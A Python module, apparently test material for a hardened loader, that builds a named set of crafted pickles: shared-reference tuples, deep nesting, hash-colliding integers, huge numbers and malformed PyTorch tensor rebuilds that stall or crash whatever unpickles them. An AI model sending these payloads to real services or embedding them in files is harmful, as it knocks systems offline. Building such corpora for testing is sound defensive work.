"""Small pickles that stall or end a process that hashes, compares or prints what they build."""

from __future__ import annotations

import struct
from itertools import count, islice
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

PRIME = 2**61 - 1
"""Python's hash of a whole number is its remainder by this one."""

TENSOR = b"ctorch._utils\n_rebuild_tensor_v2\n"
PARAMETER = b"ctorch._utils\n_rebuild_parameter\n"
FLOATS = b"ctorch\nFloatStorage\n"
KEY = b"\x8c\x010"
ORDERED = b"ccollections\nOrderedDict\n"


def shared(depth: int = 100) -> bytes:
    """Return opcodes of a tuple that holds the one before it twice, and so on: 2**depth elements."""
    doubled = b"".join(b"h%c" % number * 2 + b"\x86\x940" for number in range(depth))
    return b")\x940" + doubled + b"h%c" % depth


def nested(depth: int = 500_000) -> bytes:
    """Return opcodes of a tuple in a tuple in a tuple; Python hashes and prints them by recursion."""
    return b")" + b"\x85" * depth


def whole_number(num_bytes: int) -> bytes:
    """Return opcodes of a large number."""
    return b"\x8b" + struct.pack("<i", num_bytes) + b"\x7f" * num_bytes


def called(function: bytes, *arguments: bytes) -> bytes:
    """Return opcodes of a call."""
    return function + b"(" + b"".join(arguments) + b"tR"


def stored(kind: bytes = FLOATS, key: bytes = KEY) -> bytes:
    """Return opcodes of a storage of PyTorch."""
    return b"(N" + kind + key + b"NNtQ"


def entry(value: bytes, key: bytes = b"\x8c\x01w") -> bytes:
    """Return opcodes of a dict of one value."""
    return b"}" + key + value + b"s"


def tensor(storage: bytes, sizes: bytes = b")", strides: bytes = b")") -> bytes:
    """Return opcodes of a state dict of one tensor."""
    return entry(called(TENSOR, storage, b"K\x00", sizes, strides))


def colliding(opcodes: Callable[[int], bytes], amount: int = 60_000) -> bytes:
    """Return opcodes for numbers that have the same hash."""
    return b"".join(islice((opcodes(1 + PRIME * (2**64 + index)) for index in count()), amount))


def _sizes() -> bytes:
    sizes = b"(\x8a\x06" + (2**40 - 1).to_bytes(6, "little") + b"\x94" + b"h\x00" * 500_000 + b"t\x94"
    return tensor(stored(), sizes, b"h\x01")


def _parameters(depth: int) -> bytes:
    """Return opcodes of a parameter of a parameter and so on; the function is number 0 of the memo."""
    return b"h\x00" * depth + b"N" + b"\x85R" * depth


ATTACKS: dict[str, Callable[[], bytes]] = {
    "shared tuples": shared,
    "shared tuples as a key": lambda: entry(b"N", shared()),
    "shared tuples as keys": lambda: b"}(" + shared() + b"Nu",
    "shared tuples as a key of an OrderedDict": lambda: ORDERED + b")R" + shared() + b"Ns",
    "shared tuples as a name": lambda: shared() + b"\x8c\x01x\x93",
    "shared tuples as a function": lambda: shared() + b")R",
    "shared tuples as the function of an entry": lambda: entry(shared() + b")R"),
    "shared tuples as the arguments": lambda: ORDERED + shared() + b"R",
    "shared tuples as a state": lambda: ORDERED + b")R" + shared() + b"b",
    "shared tuples as a value": lambda: entry(shared()),
    "shared tuples as a storage": lambda: tensor(shared() + b"Q"),
    "shared tuples as the class of a storage": lambda: tensor(stored(kind=shared())),
    "shared tuples as the key of a storage": lambda: tensor(stored(key=shared())),
    "shared tuples as sizes": lambda: tensor(stored(), shared(), b"h\x64"),
    "shared lists": lambda: b"]\x940" + b"".join(b"](h%ch%ce\x940" % (n, n) for n in range(100)) + b"h\x64",
    "nested tuples": nested,
    "nested tuples as a key": lambda: entry(b"N", nested()),
    "nested lists": lambda: b"]" * 300_000 + b"a" * 299_999,
    "nested dicts": lambda: b"}" + b"N}" * 300_000 + b"s" * 300_000,
    "nested calls": lambda: entry(PARAMETER + b"\x940" + _parameters(150_000)),
    "nested persistent ids": lambda: b"N" + b"Q" * 500_000,
    "colliding numbers as keys": lambda: (
        b"}(" + colliding(lambda number: b"\x8a\x14" + number.to_bytes(20, "little") + b"N") + b"u"
    ),
    "colliding numbers of the memo": lambda: b"N" + colliding(lambda number: b"p%d\n" % number),
    "a number of 400,000 digits": lambda: whole_number(166_000),
    "such a number as a key": lambda: entry(b"N", whole_number(166_000)),
    "such a number as a size": lambda: tensor(stored(), whole_number(166_000) + b"\x85", b"K\x01\x85"),
    "sizes whose product has no end": _sizes,
    "a text longer than the file": lambda: b"\x8d" + struct.pack("<Q", 2**62) + b"x",
    "a million dicts": lambda: b"(" + b"}\x94" * 990_000 + b"t",
    "a million calls": lambda: b"(" + ORDERED + b"\x940" + b"h\x00)R" * 660_000 + b"t",
    "a state set on a mark": lambda: b"(Nb",
}
"""Opcodes up to STOP, by what they do."""


def pickles() -> dict[str, bytes]:
    """Return the whole pickles by what they do."""
    return {name: b"\x80\x04" + opcodes() + b"." for name, opcodes in ATTACKS.items()}
